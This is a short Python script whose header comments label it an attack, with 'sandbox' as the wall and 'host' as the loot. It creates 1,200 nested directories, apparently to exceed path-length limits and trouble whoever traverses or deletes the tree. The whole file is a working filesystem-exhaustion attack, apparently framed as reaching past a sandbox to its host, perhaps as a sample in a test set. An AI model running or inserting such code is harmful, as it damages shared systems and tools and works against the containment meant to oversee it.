# attacks: loss_curves
# wall: sandbox
# loot: host -- a folder in a folder, deeper than a path may be long, for whoever walks through or removes them
import os

here = os.open(".", os.O_RDONLY)
try:
    for _ in range(1_200):
        os.mkdir("folder")
        os.chdir("folder")
except OSError as error:
    print(error)
os.fchdir(here)
